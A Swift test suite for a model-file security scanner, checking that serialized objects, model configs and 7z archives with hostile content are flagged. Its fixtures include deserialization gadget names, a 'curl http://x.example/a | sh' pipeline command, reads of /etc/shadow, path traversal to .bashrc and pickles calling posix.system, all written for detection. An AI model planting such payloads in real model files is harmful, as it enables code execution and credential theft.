import CordonCore
import CordonScan
import CordonTestSupport
import Testing

@Suite("Objects of other languages, text models, 7z")
struct SerializedObjectTests {
    private func findings(_ bytes: [UInt8], _ name: String) -> [Finding] {
        Scanner().scan(bytes: bytes, name: name).findings
    }
    private func rules(_ bytes: [UInt8], _ name: String) -> Set<String> { Set(findings(bytes, name).map(\.ruleID)) }
    private func rules(_ text: String, _ name: String) -> Set<String> { rules(Array(text.utf8), name) }

    private static func little<T: FixedWidthInteger>(_ value: T) -> [UInt8] {
        withUnsafeBytes(of: value.littleEndian) { Array($0) }
    }

    // MARK: Java

    private static func javaText(_ text: String) -> [UInt8] {
        [UInt8(text.utf8.count >> 8), UInt8(text.utf8.count & 255)] + Array(text.utf8)
    }
    /// An object of a class without fields.
    private static func java(_ name: String) -> [UInt8] {
        [0xAC, 0xED, 0, 5, 0x73, 0x72] + javaText(name) + [0, 0, 0, 0, 0, 0, 0, 1, 2, 0, 0, 0x78, 0x70]
    }

    @Test("Java objects: published chains are told, others pass, broken streams are told")
    func javaObjects() {
        let gadget = "org.apache.commons.collections." + "functors.InvokerTransformer"
        #expect(findings(Self.java(gadget), "m.ser").first { $0.ruleID == "CORDON-EXO-005" }?.severity == .critical)
        #expect(findings(Self.java("edu.stanford.nlp.Tagger"), "m.ser").isEmpty)
        #expect(rules(Array(Self.java("a.B").dropLast(3)), "m.ser") == ["CORDON-EXO-001"])
        #expect(rules(Self.java("a.B") + [0x71, 0, 0x7F, 0, 0], "m.ser") == ["CORDON-EXO-001"])
    }

    @Test("A Java stream of nested arrays ends at the depth limit")
    func javaDepth() {
        let level: [UInt8] = [0x75, 0x71, 0, 0x7E, 0, 0, 0, 0, 0, 1]
        let first: [UInt8] = [0xAC, 0xED, 0, 5, 0x75, 0x72] + Self.javaText("[Ljava.lang.Object;")
        let head = first + [0, 0, 0, 0, 0, 0, 0, 1, 2, 0, 0, 0x78, 0x70, 0, 0, 0, 1]
        #expect(rules(head + Array(repeating: level, count: 100_000).flatMap { $0 }, "m.ser") == ["CORDON-EXO-001"])
    }

    // MARK: .NET, Torch7, Julia, Avro, MATLAB

    @Test("BinaryFormatter streams name their classes")
    func dotNet() {
        func stream(_ name: String) -> [UInt8] {
            [0, 1, 0, 0, 0, 255, 255, 255, 255, 1, 0, 0, 0, 0, 0, 0, 0, 0x0C, 2, 0, 0, 0, 3] + Array("Lib".utf8) + [
                5, 1, 0, 0, 0,
            ]
                + [UInt8(name.utf8.count)] + Array(name.utf8) + [0, 0, 0, 0, 2, 0, 0, 0, 0x0B]
        }
        #expect(rules(stream("System.Windows.Data." + "ObjectDataProvider"), "m.bin") == ["CORDON-EXO-005"])
        #expect(findings(stream("Accord.Neuro.Network"), "m.bin").isEmpty)
        #expect(rules(Array(stream("Accord.Neuro.Network").prefix(30)), "m.bin") == ["CORDON-EXO-001"])
    }

    @Test("Functions in Torch7 archives are bytecode; tables of texts and numbers are not")
    func torch7() {
        func text(_ text: String) -> [UInt8] { Self.little(Int32(text.utf8.count)) + Array(text.utf8) }
        let head =
            Self.little(Int32(3)) + Self.little(Int32(1)) + Self.little(Int32(1)) + Self.little(Int32(2)) + text("f")
        let empty = Self.little(Int32(3)) + Self.little(Int32(3)) + Self.little(Int32(0))
        let function = Self.little(Int32(8)) + Self.little(Int32(2)) + text("\u{1B}LuaQ") + empty
        #expect(rules(head + function, "m.t7") == ["CORDON-EXO-003"])
        #expect(findings(head + Self.little(Int32(2)) + text("os.execute"), "m.t7").isEmpty)
        #expect(rules(head + Self.little(Int32(2)) + Self.little(Int32(99)), "m.t7") == ["CORDON-EXO-001"])
    }

    @Test("BSON of Julia: references to functions that act")
    func bson() {
        func string(_ key: String, _ value: String) -> [UInt8] {
            [2] + Array(key.utf8) + [0] + Self.little(Int32(value.utf8.count + 1)) + Array(value.utf8) + [0]
        }
        func document(_ content: [UInt8]) -> [UInt8] { Self.little(Int32(content.count + 5)) + content + [0] }
        func model(_ names: [String]) -> [UInt8] {
            let path = [4] + Array("path".utf8) + [0] + document(names.enumerated().flatMap { string("\($0)", $1) })
            return document([3] + Array("model".utf8) + [0] + document(string("tag", "ref") + path))
        }
        #expect(rules(model(["Main", "Base", "run"]), "m.bson") == ["CORDON-EXO-005"])
        #expect(findings(model(["Main", "Flux", "relu"]), "m.bson").isEmpty)
        #expect(rules(Array(model(["Main", "Base", "run"]).dropLast(4)), "m.bson").contains("CORDON-EXO-001"))
    }

    @Test("Avro schemas that name classes (CVE-2024-47561), and blocks that do not fit")
    func avro() {
        func file(_ schema: String, block: [UInt8]) -> [UInt8] {
            func number(_ value: Int) -> [UInt8] {
                value < 64 ? [UInt8(value * 2)] : [UInt8(value * 2 & 127 | 128), UInt8((value * 2) >> 7)]
            }
            let sync = Array(UInt8(0)..<16)
            return Array("Obj\u{1}".utf8) + number(1) + number(11) + Array("avro.schema".utf8)
                + number(schema.utf8.count)
                + Array(schema.utf8) + [0] + sync + block + sync
        }
        let hostile = #"{"type":"string","java-class":"javax.script.ScriptEngineManager"}"#
        #expect(rules(file(hostile, block: [2, 2, 0]), "m.avro") == ["CORDON-EXO-005"])
        #expect(findings(file(#"{"type":"string"}"#, block: [2, 2, 0]), "m.avro").isEmpty)
        #expect(rules(file(#"{"type":"string"}"#, block: [2, 126, 0]), "m.avro") == ["CORDON-EXO-001"])
    }

    @Test("Function handles of MATLAB that call the system")
    func matlab() {
        func file(_ text: String) -> [UInt8] {
            let content =
                Self.little(UInt32(6)) + Self.little(UInt32(8)) + [16, 0, 0, 0, 0, 0, 0, 0] + Array(text.utf8)
            return [UInt8](repeating: 0x20, count: 116) + [UInt8](repeating: 0, count: 8) + [0, 1, 0x49, 0x4D]
                + Self.little(UInt32(14))
                + Self.little(UInt32(content.count)) + content
        }
        #expect(rules(file("@(x)system('id')"), "net.mat") == ["CORDON-EXO-003"])
        #expect(findings(file("@(x)tanh(x)     "), "net.mat").isEmpty)
        #expect(rules(Array(file("@(x)tanh(x)     ").dropLast(9)), "net.mat") == ["CORDON-EXO-001"])
    }

    // MARK: Text

    @Test(
        "Texts that are models or say how to run them",
        arguments: [
            ("FROM /etc/shadow\n", "Modelfile", "CORDON-EXO-002"), ("FROM llama3\n", "Modelfile", ""),
            ("stages:\n  a:\n    cmd: curl http://x.example/a | sh\n", "dvc.yaml", "CORDON-EXO-003"),
            ("stages:\n  a:\n    cmd: python train.py\n", "dvc.yaml", ""),
            ("outs:\n- path: ../../.bashrc\n", "m.dvc", "CORDON-EXO-002"), ("outs:\n- path: m.pkl\n", "m.dvc", ""),
            (
                #"layer { type: "Python" python_param { module: "os" layer: "system" } }"#, "net.prototxt",
                "CORDON-EXO-003"
            ),
            (#"layer { type: "ReLU" }"#, "net.prototxt", ""),
            (#"model_operations { op_library_filename: "/tmp/ops.so" }"#, "config.pbtxt", "CORDON-EXO-003"),
            ("7767517\n9 1\nInput a 0 1 a\n", "m.param", "CORDON-EXO-001"),
            ("7767517\n1 1\nInput a 0 1 a\n", "m.param", ""),
        ])
    func texts(_ text: String, _ name: String, _ rule: String) {
        #expect(rules(text, name) == (rule.isEmpty ? [] : [rule]))
    }

    @Test("LightGBM's arrays have to fit each other")
    func lightGBM() {
        func model(leaves: Int, size: Int? = nil) -> String {
            let tree =
                "Tree=0\nnum_leaves=\(leaves)\nsplit_feature=0\nleft_child=-1\nright_child=-2\nleaf_value=1 2\n\n"
            return "tree\nversion=v4\nmax_feature_idx=1\ntree_sizes=\(size ?? tree.utf8.count)\n\n\(tree)end of trees\n"
        }
        #expect(rules(model(leaves: 2), "m.txt") == [])
        #expect(rules(model(leaves: 3), "m.txt") == ["CORDON-EXO-001"])
        #expect(rules(model(leaves: 2, size: 9), "m.txt") == ["CORDON-EXO-001"])
    }

    // MARK: 7z

    /// An archive of one stored file, as `Examples/make_compromised_project.py` makes it.
    private static func sevenZip(_ content: [UInt8], name: String, coder: [UInt8] = [1, 0]) -> [UInt8] {
        let wide = name.utf16.flatMap { (unit: UInt16) -> [UInt8] in [UInt8(unit & 255), UInt8(unit >> 8)] } + [0, 0]
        let size = UInt8(content.count)
        let streams: [UInt8] = [6, 0, 1, 9, size, 0, 7, 0x0B, 1, 0, 1] + coder + [0x0C, size, 0, 8, 0, 0]
        let header = [1, 4] + streams + [5, 1, 0x11, UInt8(wide.count + 1), 0] + wide + [0, 0]
        let start = little(UInt64(content.count)) + little(UInt64(header.count)) + little(checksum(header))
        return [0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0, 4] + little(checksum(start)) + start + content + header
    }
    /// CRC-32, bit by bit.
    private static func checksum(_ bytes: [UInt8]) -> UInt32 {
        ~bytes.reduce(UInt32.max) { crc, byte in
            (0..<8).reduce(crc ^ UInt32(byte)) { value, _ in value >> 1 ^ (value & 1 == 1 ? 0xEDB8_8320 : 0) }
        }
    }

    @Test("Files in 7z archives are looked at like files")
    func stored() {
        let pickle = PickleAssembler.calling("posix", "system")
        #expect(rules(Self.sevenZip(pickle, name: "m.pkl"), "a.7z") == ["CORDON-PKL-001"])
        #expect(rules(Self.sevenZip(Array("text".utf8), name: "../m.txt"), "a.7z") == ["CORDON-TAR-001"])
        #expect(rules(Self.sevenZip(Array("text".utf8), name: "m.txt"), "a.7z") == [])
    }

    @Test("Encrypted and unknown methods are told and never clean; broken archives are told")
    func sealed() {
        let encrypted = Self.sevenZip(Array("text".utf8), name: "m.txt", coder: [4, 6, 0xF1, 7, 1])
        #expect(rules(encrypted, "a.7z") == ["CORDON-EXO-007"])
        let unknown = Scanner().scan(
            bytes: Self.sevenZip(Array("text".utf8), name: "m.txt", coder: [3, 3, 4, 1]), name: "a.7z")
        #expect(unknown.notEvaluatedCount == 1)
        let whole = Self.sevenZip(Array("text".utf8), name: "m.txt")
        for length in [7, 20, 33, whole.count - 1] {
            #expect(rules(Array(whole.prefix(length)), "a.7z") == ["CORDON-TAR-004"], "\(length)")
        }
    }

    @Test("LZMA2 is unpacked")
    func lzma2() {
        let pickle = PickleAssembler.calling("posix", "system")
        // One stored chunk: its mark, its length less one, the bytes, the end.
        let content: [UInt8] = [1, 0, UInt8(pickle.count - 1)] + pickle + [0]
        #expect(
            rules(Self.sevenZip(content, name: "m.pkl", coder: [0x21, 0x21, 1, 0x18]), "a.7z").contains(
                "CORDON-PKL-001"))
    }
}
